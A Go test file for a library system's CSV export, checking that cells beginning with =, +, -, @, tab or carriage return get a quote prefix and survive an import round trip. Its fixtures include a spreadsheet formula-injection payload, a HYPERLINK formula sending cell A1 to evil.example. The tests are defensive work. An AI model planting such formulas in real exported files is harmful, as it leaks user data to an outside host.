package csvimport_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/carrel-library/carrel/internal/csvimport"
	"github.com/carrel-library/carrel/internal/library"
)

func TestEscapeFormula(t *testing.T) {
	tests := []struct{ in, want string }{
		{"Chan Tai Man", "Chan Tai Man"},
		{"", ""},
		{"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"},
		{"+852 2265 6918", "'+852 2265 6918"},
		{"-", "'-"},
		{"@SUM(1+1)", "'@SUM(1+1)"},
		{"\tcmd", "'\tcmd"},
		{"\rcmd", "'\rcmd"},
		{"a=b", "a=b"},
		{"'quoted", "'quoted"}, // not a formula, not an escaped one: as it is
		{"'=1+1", "''=1+1"},    // looks escaped already: one more quote, taken off on import
		{"''@x", "'''@x"},      // and so on
		{"O'Brien", "O'Brien"}, // a quote inside is nothing
		{"１２３", "１２３"},         // full-width digits are text to a spreadsheet
		{"Ｈ=1", "Ｈ=1"},
	}
	for _, tt := range tests {
		if got := csvimport.EscapeFormula(tt.in); got != tt.want {
			t.Errorf("EscapeFormula(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// formulaFile holds names, titles and addresses that look like formulas,
// and a quote that must survive as it is.
const (
	formulaPatrons = patronHeader +
		"20240001,student,\"=HYPERLINK(\"\"http://evil.example/\"\"&A1)\",tm.chan@example.edu.hk,2024-09-01,2028-08-31,\n" +
		"20240002,Student,+Wong Siu Ming,+wong@example.edu.hk,2024-09-01,2028-08-31,\n" +
		"20240003,student,'=Lee Ka Yan,,,,\n" +
		"s-1001,staff,@Ho Wing Sze,,2019-01-10,,\n" +
		"20150001,student,O'Brien Legacy,,2015-09-01,2027-08-31,A123456(3)\n"
	formulaItems = itemHeader +
		"B0001,=1+1,-,PL2727 .S2,@Main\n" +
		"B0002,Fortress Besieged,Qian Zhongshu,'-quoted,Main Library\n" +
		"B-0003,The Book and the Sword,'',PL2848 .Y8,Main Library\n" +
		"B0004,'''=deep,+,=,Main Library\n"
	formulaLoans = loanHeader +
		"20240001,B0001,2026-11-01,2026-11-15\n" +
		"20240002,B0002,2026-10-20,2026-11-03\n"
)

// TestExportRoundTrip exports patrons, items and open loans, checks that
// formula-looking cells are escaped and the HKID column empty, imports the
// files into an empty library, and checks that the second library holds
// the same patrons, items and loans: its export is byte for byte the first.
func TestExportRoundTrip(t *testing.T) {
	eachDB(t, func(t *testing.T, newService func(testing.TB) *library.Service) {
		from := newService(t)
		mustImport(t, from, csvimport.Patrons, formulaPatrons)
		mustImport(t, from, csvimport.Items, formulaItems)
		mustImport(t, from, csvimport.Loans, formulaLoans)

		files := map[csvimport.Kind]string{}
		for _, kind := range csvimport.Kinds() {
			files[kind] = export(t, from, kind)
		}
		for _, want := range []string{
			`"'=HYPERLINK(""http://evil.example/""&A1)"`, "'+Wong Siu Ming", "'+wong@example.edu.hk", ",'=Lee Ka Yan,", "'@Ho Wing Sze",
			"\nS1001,staff,", "O'Brien Legacy,,2015-09-01,2027-08-31,\n",
		} {
			if !strings.Contains(files[csvimport.Patrons], want) {
				t.Errorf("patron export lacks %q:\n%s", want, files[csvimport.Patrons])
			}
		}
		for _, want := range []string{"B0001,'=1+1,'-,PL2727 .S2,'@Main\n", ",'-quoted,", "B0003,The Book and the Sword,'',", "B0004,'''=deep,'+,'=,Main Library\n"} {
			if !strings.Contains(files[csvimport.Items], want) {
				t.Errorf("item export lacks %q:\n%s", want, files[csvimport.Items])
			}
		}
		wantLoans := loanHeader + "20240001,B0001,2026-11-01,2026-11-15\n20240002,B0002,2026-10-20,2026-11-03\n"
		if files[csvimport.Loans] != wantLoans {
			t.Errorf("loan export:\n%s\nwant:\n%s", files[csvimport.Loans], wantLoans)
		}
		// No cell of any file starts a formula.
		for kind, text := range files {
			rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
			if err != nil {
				t.Fatalf("%s export is not CSV: %v", kind, err)
			}
			for _, row := range rows[1:] {
				for _, cell := range row {
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						t.Errorf("%s export has a formula cell %q", kind, cell)
					}
				}
			}
		}

		// Stored as imported: a quote before a formula is taken off (as a
		// spreadsheet does), any other kept.
		if p := patron(t, from, "20240003"); p.Name != "=Lee Ka Yan" {
			t.Errorf("name stored %q", p.Name)
		}
		if p := patron(t, from, "20240001"); p.Name != `=HYPERLINK("http://evil.example/"&A1)` {
			t.Errorf("name stored %q", p.Name)
		}

		to := newService(t)
		for _, kind := range csvimport.Kinds() {
			sum := mustImport(t, to, kind, files[kind])
			if sum.Added != strings.Count(files[kind], "\n")-1 {
				t.Errorf("%s: %v", kind, sum)
			}
		}
		for _, kind := range csvimport.Kinds() {
			if got := export(t, to, kind); got != files[kind] {
				t.Errorf("%s after the round trip:\n%s\nwant:\n%s", kind, got, files[kind])
			}
		}
		// The export imports back over its own library as unchanged.
		for _, kind := range csvimport.Kinds() {
			if sum := mustImport(t, from, kind, files[kind]); sum.Added+sum.Updated != 0 {
				t.Errorf("%s re-imported over itself: %v", kind, sum)
			}
		}
	})
}

// TestExportEmpty writes the header alone for an empty library.
func TestExportEmpty(t *testing.T) {
	svc := newService(t)
	for kind, want := range map[csvimport.Kind]string{csvimport.Patrons: patronHeader, csvimport.Items: itemHeader, csvimport.Loans: loanHeader} {
		if got := export(t, svc, kind); got != want {
			t.Errorf("%s: %q, want %q", kind, got, want)
		}
	}
	if _, err := csvimport.Export(context.Background(), source(t, svc), svc.Config(), "fines", &bytes.Buffer{}); !library.IsCode(err, library.EINVALID) {
		t.Errorf("unknown kind: %v", err)
	}
}

// export returns the library's file of the given kind.
func export(t testing.TB, svc *library.Service, kind csvimport.Kind) string {
	t.Helper()
	var b bytes.Buffer
	n, err := csvimport.Export(context.Background(), source(t, svc), svc.Config(), kind, &b)
	if err != nil {
		t.Fatalf("export %s: %v", kind, err)
	}
	if lines := strings.Count(b.String(), "\n") - 1; n != lines {
		t.Errorf("export %s: %d rows reported, %d written", kind, n, lines)
	}
	return b.String()
}

// source is the service's database as an export reads it.
func source(t testing.TB, svc *library.Service) csvimport.Source {
	t.Helper()
	src, ok := svc.Store().(csvimport.Source)
	if !ok {
		t.Fatalf("%T is not a csvimport.Source", svc.Store())
	}
	return src
}
